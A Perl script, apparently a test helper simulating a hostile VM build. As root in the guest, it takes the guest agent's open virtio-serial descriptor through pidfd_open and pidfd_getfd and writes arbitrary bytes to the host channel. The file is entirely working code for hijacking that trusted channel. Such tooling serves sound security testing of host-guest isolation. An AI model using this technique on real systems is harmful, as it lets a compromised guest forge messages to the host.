# A hostile build's tool: takes the guest agent's open virtio-serial port PORT (the agent
# holds it open, a second open fails) with pidfd_open + pidfd_getfd, as root in the guest
# may, and writes standard input to it. Usage: perl steal.pl PORT < bytes
# With --pid first, prints the pid of the process holding PORT (the agent) instead.
use strict;
my $print_pid = $ARGV[0] eq "--pid" && shift @ARGV;
my ($port) = @ARGV;
my $dev;
for my $name (glob "/sys/class/virtio-ports/*/name") {
    open(my $f, "<", $name) or next;
    my $n = <$f> // "";
    chomp $n;
    if ($n eq $port) { ($dev) = $name =~ m{virtio-ports/([^/]+)/name}; last }
}
die "no virtio-serial port named $port\n" unless defined $dev;
my ($pid, $fd);
PROC: for my $p (glob "/proc/[0-9]*") {
    next if $p eq "/proc/$$";
    opendir(my $d, "$p/fd") or next;
    for my $f (grep { /^\d+$/ } readdir $d) {
        my $target = readlink("$p/fd/$f") // next;
        if ($target eq "/dev/$dev") { ($pid) = $p =~ m{(\d+)$}; $fd = $f; last PROC }
    }
}
die "nobody holds $port\n" unless defined $pid;
if ($print_pid) { print "$pid\n"; exit 0 }
my $pidfd = syscall(434, $pid + 0, 0);    # pidfd_open
die "pidfd_open: $!\n" if $pidfd < 0;
my $stolen = syscall(438, $pidfd, $fd + 0, 0);    # pidfd_getfd
die "pidfd_getfd: $!\n" if $stolen < 0;
print STDERR "steal.pl: took fd $fd of pid $pid ($port)\n";
open(my $out, ">&=", $stolen) or die "fdopen: $!\n";
binmode $out;
binmode STDIN;
while (my $n = sysread(STDIN, my $buf, 65536)) {
    my $off = 0;
    while ($off < $n) {
        my $w = syswrite($out, $buf, $n - $off, $off);
        die "write: $!\n" unless defined $w;
        $off += $w;
    }
}
